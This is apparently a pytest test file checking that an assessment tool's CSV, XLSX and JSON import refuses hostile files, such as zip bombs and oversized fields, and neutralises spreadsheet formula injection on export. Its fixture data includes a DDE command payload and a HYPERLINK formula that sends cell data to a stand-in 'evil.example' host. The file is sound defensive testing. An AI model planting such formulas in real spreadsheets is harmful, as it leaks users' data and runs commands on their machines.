"""Hostile import files from tests/corpus/imports (and big ones generated into tmp_path), on SQLite
and PostgreSQL, through import_workshop and through `python -m assessment import`.

A refused file must say what is wrong in words a person can act on, in a message of bounded size,
quickly, and leave every table exactly as it was. A file whose cells merely look dangerous
(formulas, markup) is data: it is imported as typed and neutralised again on export.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from io import BytesIO
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import Engine, select

from assessment.db import (
    create_cohort,
    create_partnership,
    create_workshop,
    store_bank_version,
    transaction,
    workshop_info,
)
from assessment.db.tables import Participant, Response
from assessment.io import (
    FORMULA_TRIGGERS,
    MAX_IMPORT_BYTES,
    ImportRejected,
    ImportSummary,
    export_workshop,
    import_workshop,
)
from tests.corpus import (
    binary_junk,
    huge_field_csv,
    import_file,
    many_rows_csv,
    many_rows_xlsx,
    shared_database,
    snapshot,
    zip_bomb_xlsx,
)
from tests.storage.cli_helpers import run, url
from tests.storage.conftest import BACKENDS, SHIPPED_BANK_TEXT

# No refusal may repeat a bad cell at length: a few lines a person can read.
MAX_MESSAGE_CHARS = 2000


@pytest.fixture(scope="module", params=BACKENDS)
def engine(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """One database per backend for the module (a fresh PostgreSQL per test would cost a minute)."""
    yield from shared_database(request.param, tmp_path_factory.mktemp("corpus-imports"))


@pytest.fixture(scope="module")
def partnership(engine: Engine) -> int:
    with transaction(engine) as session:
        cohort = create_cohort(session=session, name="Import corpus")
        return create_partnership(session=session, cohort_id=cohort, name="Riverside ICS", kind="ics")


@pytest.fixture
def workshop_id(engine: Engine, partnership: int) -> int:
    """A workshop of its own for each test, empty until the test imports into it."""
    with transaction(engine) as session:
        version = store_bank_version(session=session, yaml_text=SHIPPED_BANK_TEXT)
        return create_workshop(
            session=session,
            partnership_id=partnership,
            bank_version_id=version,
            title="Import corpus round",
            held_on=date(2026, 3, 1),
        ).id


@pytest.fixture
def named_workshop_id(engine: Engine, partnership: int) -> int:
    """As workshop_id, but named: its export keeps the role column (an anonymous one leaves it out)."""
    with transaction(engine) as session:
        version = store_bank_version(session=session, yaml_text=SHIPPED_BANK_TEXT)
        return create_workshop(
            session=session,
            partnership_id=partnership,
            bank_version_id=version,
            title="Import corpus round, named",
            held_on=date(2026, 3, 1),
            anonymous=False,
        ).id


@dataclass(frozen=True)
class Case:
    file: str
    says: tuple[str, ...]


REFUSED = [
    Case("latin1.csv", ("file: the file is not UTF-8 text; save it as CSV UTF-8",)),
    Case("utf16.csv", ("file: the file is not UTF-8 text; save it as CSV UTF-8",)),
    Case("utf16.json", ("file: the file is not UTF-8 text; save it as UTF-8",)),
    Case(
        "missing_columns.csv",
        ("file: the required columns 'sector', 'item_id' are missing; row 1 must name the columns",),
    ),
    Case("header_only.csv", ("file: the file has a header row but no answers under it",)),
    Case("empty.csv", ("file: the file is empty; expected a header row",)),
    Case("semicolons.csv", ("the file seems to use ';' between values: save it as CSV UTF-8",)),
    Case(
        "ragged_rows.csv", ("file: the file could not be read as CSV (Expected 9 fields in line 3, saw 11)",)
    ),
    Case(
        "nul_in_cell.csv",
        ("row 2, column comment: contains a NUL character, which cannot be stored; delete it",),
    ),
    Case(
        "huge_integer.csv",
        ("row 2, column current: the number has 5,000 digits; expected a level from 1 to 4",),
    ),
    Case("huge_integer.json", ("file: the file holds a number thousands of digits long",)),
    Case("not_a_list.json", ("expected a JSON list of objects", "found an object")),
    Case("deeply_nested.json", ("file: the JSON is nested too deeply",)),
    Case(
        "truncated.json",
        ("file: the file is not valid JSON (Unterminated string starting at line 1, column 34)",),
    ),
    Case("not_a_zip.xlsx", ("file: the file could not be read as an Excel workbook (.xlsx)",)),
    Case("zip_not_workbook.xlsx", ("file: the file could not be read as an Excel workbook (.xlsx)",)),
    Case("workbook_named_csv.csv", ("this looks like an Excel workbook, not CSV; name it .xlsx",)),
    Case("unknown_extension.txt", ("'unknown_extension.txt' is not a .csv, .xlsx or .json file",)),
]


def refused(engine: Engine, workshop_id: int, content: bytes, filename: str, *, within: float = 5.0) -> str:
    """The whole refusal message, having checked the import wrote nothing and took under ``within`` s."""
    before = snapshot(engine)
    started = time.perf_counter()
    with pytest.raises(ImportRejected) as caught:
        import_workshop(engine=engine, workshop_id=workshop_id, content=content, filename=filename)
    took = time.perf_counter() - started
    assert snapshot(engine) == before
    assert took < within, f"refusing {filename} took {took:.1f} s"
    message = str(caught.value)
    assert len(message) <= MAX_MESSAGE_CHARS, f"a {len(message):,}-character message"
    return message


def join_code(engine: Engine, workshop_id: int) -> str:
    with transaction(engine) as session:
        return workshop_info(session=session, workshop_id=workshop_id).join_code


# --- the corpus files ------------------------------------------------------------------------------


@pytest.mark.parametrize("case", REFUSED, ids=[c.file for c in REFUSED])
def test_a_hostile_import_file_is_refused_saying_why_and_writes_nothing(
    case: Case, engine: Engine, workshop_id: int
) -> None:
    path = import_file(case.file)
    message = refused(engine, workshop_id, path.read_bytes(), path.name)
    for words in case.says:
        assert words in message


# One of each kind of refusal through the command line: exit 2, every problem on stderr, no traceback.
CLI_CASES = [
    c for c in REFUSED if c.file in {"latin1.csv", "huge_integer.json", "not_a_zip.xlsx", "nul_in_cell.csv"}
]


@pytest.mark.parametrize("case", CLI_CASES, ids=[c.file for c in CLI_CASES])
def test_the_import_command_refuses_a_hostile_file_with_exit_2_and_writes_nothing(
    case: Case, engine: Engine, workshop_id: int, capsys: pytest.CaptureFixture[str]
) -> None:
    path = import_file(case.file)
    before = snapshot(engine)
    code, out, err = run(
        capsys, "import", str(path), "--workshop", join_code(engine, workshop_id), "--db", url(engine)
    )
    assert code == 2
    assert out == ""
    assert "Traceback" not in err
    for words in case.says:
        assert f"{path.name}: {words}" in err  # each problem names the file it is about
    assert err.rstrip().endswith(f"{path.name}: nothing was imported")
    assert snapshot(engine) == before


# --- generated: too big, too many, junk ------------------------------------------------------------


def test_200000_rows_of_csv_are_refused_by_count_within_seconds(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = many_rows_csv(tmp_path / "rows.csv", 200_000)
    assert path.stat().st_size < MAX_IMPORT_BYTES  # so the row count, not the size, is what is judged
    message = refused(engine, workshop_id, path.read_bytes(), path.name, within=10.0)
    assert (
        message
        == "file: the file has more than 100,000 rows; split it into smaller files and import each one"
    )


def test_200000_rows_of_xlsx_are_refused_by_count_without_reading_them(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = many_rows_xlsx(tmp_path / "rows.xlsx", 200_000)
    # Read cell by cell, 100,000 rows took 12 s here: the declared size refuses it at once.
    message = refused(engine, workshop_id, path.read_bytes(), path.name, within=2.0)
    assert (
        message
        == "file: the file has more than 100,000 rows; split it into smaller files and import each one"
    )


def test_the_import_command_refuses_200000_rows_with_exit_2(
    engine: Engine, workshop_id: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = many_rows_csv(tmp_path / "rows.csv", 200_000)
    before = snapshot(engine)
    code, _, err = run(
        capsys, "import", str(path), "--workshop", join_code(engine, workshop_id), "--db", url(engine)
    )
    assert code == 2
    assert "rows.csv: file: the file has more than 100,000 rows" in err
    assert snapshot(engine) == before


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = zip_bomb_xlsx(tmp_path / "bomb.xlsx", unpacked=256 * 1024 * 1024)
    assert path.stat().st_size < 1024 * 1024  # a quarter of a gigabyte, packed into under a megabyte
    message = refused(engine, workshop_id, path.read_bytes(), path.name, within=2.0)
    assert message == (
        "file: the workbook unpacks to more than 200 MB; save only the answers sheet, or split it into "
        "smaller files"
    )


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("junk.csv", "file: the file is not UTF-8 text; save it as CSV UTF-8"),
        ("junk.json", "file: the file is not UTF-8 text; save it as UTF-8"),
        ("junk.xlsx", "file: the file could not be read as an Excel workbook (.xlsx)"),
    ],
)
def test_binary_junk_is_refused_whatever_its_name(
    name: str, says: str, engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = binary_junk(tmp_path / name, 1024 * 1024)
    assert says in refused(engine, workshop_id, path.read_bytes(), path.name)


def test_binary_junk_over_10_mb_is_refused_by_the_command_before_it_is_read(
    engine: Engine, workshop_id: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = binary_junk(tmp_path / "junk.csv", MAX_IMPORT_BYTES + 1)
    before = snapshot(engine)
    code, _, err = run(
        capsys, "import", str(path), "--workshop", join_code(engine, workshop_id), "--db", url(engine)
    )
    assert (code, err.strip()) == (2, f"{path}: the file is larger than 10 MB")
    assert snapshot(engine) == before


@pytest.mark.parametrize(
    ("column", "says"),
    [
        ("comment", "row 2, column comment: the comment is 5,000,000 characters; at most 2,000"),
        ("participant", "row 2, column participant: the label is 5,000,000 characters; at most 80"),
        ("role", "row 2, column role: the role is 5,000,000 characters; at most 200"),
        ("sector", "row 2, column sector: 'xxxxxxxxxx"),
        ("item_id", "row 2, column item_id: there is no item 'xxxxxxxxxx"),
        ("current", "row 2, column current: 'xxxxxxxxxx"),
        ("dont_know", "row 2, column dont_know: 'xxxxxxxxxx"),
        ("function_id", "row 2, column function_id:"),
    ],
)
def test_a_huge_field_is_refused_naming_its_cell_in_a_short_message(
    column: str, says: str, engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = huge_field_csv(tmp_path / "huge.csv", column, 5_000_000)
    message = refused(engine, workshop_id, path.read_bytes(), path.name)
    assert says in message
    if column in {"sector", "item_id", "current", "dont_know"}:
        assert "(5,000,000 characters)" in message  # cut short, and says how long it was


def test_a_sheet_20000_columns_wide_is_refused_before_it_is_read(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(
        ",".join(f"col{i}" for i in range(20_000)) + "\n" + "x," * 19_999 + "x\n", encoding="utf-8"
    )
    # pandas took 8 s over a header this wide (and longer per row): counted first, it takes none.
    message = refused(engine, workshop_id, path.read_bytes(), path.name, within=1.0)
    assert message.startswith("file: row 1 has 20,000 columns; expected the export's columns (participant,")
    assert message.endswith("and at most 1,000 in all")


def test_hundreds_of_unknown_columns_are_named_ten_at_a_time(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "unknown.csv"
    path.write_text(
        "participant,sector,item_id," + ",".join(f"col{i}" for i in range(500)) + "\n", encoding="utf-8"
    )
    message = refused(engine, workshop_id, path.read_bytes(), path.name)
    assert "file: unknown columns 'col0', 'col1'" in message
    assert "'col9' and 490 more; expected only: participant" in message


# --- cells that look dangerous but are data -----------------------------------------------------------


def stored(engine: Engine, workshop_id: int) -> list[tuple[str, str, str | None]]:
    """(label, role, comment) of every answer in the workshop, by label."""
    with transaction(engine) as session:
        rows = session.execute(
            select(Participant.label, Participant.role, Response.comment)
            .join(Response, Response.participant_id == Participant.id)
            .where(Participant.workshop_id == workshop_id)
            .order_by(Participant.label)
        ).all()
    return [(label, role, comment) for label, role, comment in rows]


def test_formula_cells_are_imported_as_the_text_typed_and_neutralised_on_export(
    engine: Engine, named_workshop_id: int
) -> None:
    workshop_id = named_workshop_id  # a named workshop: its export has the role column to check
    path = import_file("formula_injection.csv")
    summary = import_workshop(
        engine=engine, workshop_id=workshop_id, content=path.read_bytes(), filename=path.name
    )
    assert summary == ImportSummary(participants=7, answers=7)
    rows = {label: (role, comment) for label, role, comment in stored(engine, workshop_id)}
    # Labels and roles are trimmed of spaces, tabs and line breaks; comments are kept exactly.
    assert rows == {
        "=1+1": ("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'),
        "+P2": ("+44 role", "+SUM(A1:A9)"),
        "-P3": ("-role", "-2+3"),
        "@P4": ("@role", "@SUM(A1)"),
        "P5": ("=role", "\t=1+1"),
        "P6": ("=role", "\r=1+1"),
        # A quote before a formula is a spreadsheet's mark for text (and what the export adds):
        # the import takes it off, as the spreadsheet shows the cell.
        "P7": ("", "=already quoted'"),
    }
    with transaction(engine) as session:
        csv_bytes = export_workshop(session=session, workshop_id=workshop_id, fmt="csv")
        xlsx_bytes = export_workshop(session=session, workshop_id=workshop_id, fmt="xlsx")
    sheet = pd.read_csv(BytesIO(csv_bytes), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for column in ("participant", "role", "comment"):
        assert not any(value.startswith(FORMULA_TRIGGERS) for value in sheet[column]), column
    workbook = openpyxl.load_workbook(BytesIO(xlsx_bytes))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert all(cell.data_type != "f" for cell in cells)  # not one formula in the workbook
    assert not any(isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS) for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_of_formula_cells_imports_back_to_exactly_what_was_typed(
    fmt: str, engine: Engine, named_workshop_id: int
) -> None:
    workshop_id = named_workshop_id  # a named workshop: its export has the role column to check
    path = import_file("formula_injection.csv")
    import_workshop(engine=engine, workshop_id=workshop_id, content=path.read_bytes(), filename=path.name)
    with transaction(engine) as session:
        content = export_workshop(session=session, workshop_id=workshop_id, fmt=fmt)
        info = workshop_info(session=session, workshop_id=workshop_id)
        fresh = create_workshop(
            session=session,
            partnership_id=info.partnership_id,
            bank_version_id=info.bank_version_id,
            title="Round two",
            held_on=info.held_on,
        ).id
    import_workshop(engine=engine, workshop_id=fresh, content=content, filename=f"export.{fmt}")
    typed = stored(engine, workshop_id)
    if fmt == "xlsx":
        # A workbook's XML reads a carriage return back as a line feed, so the quote the export put
        # before "\r=1+1" no longer stands before a formula trigger and stays: a known limit of
        # xlsx, for a comment that starts with a carriage return (CSV and JSON keep it exactly).
        typed = [
            (label, role, "'\n=1+1" if comment == "\r=1+1" else comment) for label, role, comment in typed
        ]
    assert stored(engine, fresh) == typed


def test_markup_and_invisible_characters_in_cells_are_imported_as_typed(
    engine: Engine, workshop_id: int, tmp_path: Path
) -> None:
    from tests.corpus import MARKUP_KINDS, hostile

    texts = [hostile(kind) for kind in MARKUP_KINDS]
    frame = pd.DataFrame(
        {
            "participant": [f"P{index}" for index in range(len(texts))],
            "sector": "vcse",
            "role": texts,
            "item_id": "shared-purpose-stated",
            "current": 2,
            "target": 3,
            "comment": texts,
        }
    )
    path = tmp_path / "markup.csv"
    frame.to_csv(path, index=False)
    import_workshop(engine=engine, workshop_id=workshop_id, content=path.read_bytes(), filename=path.name)
    assert sorted((role, comment) for _, role, comment in stored(engine, workshop_id)) == sorted(
        (text, text) for text in texts
    )
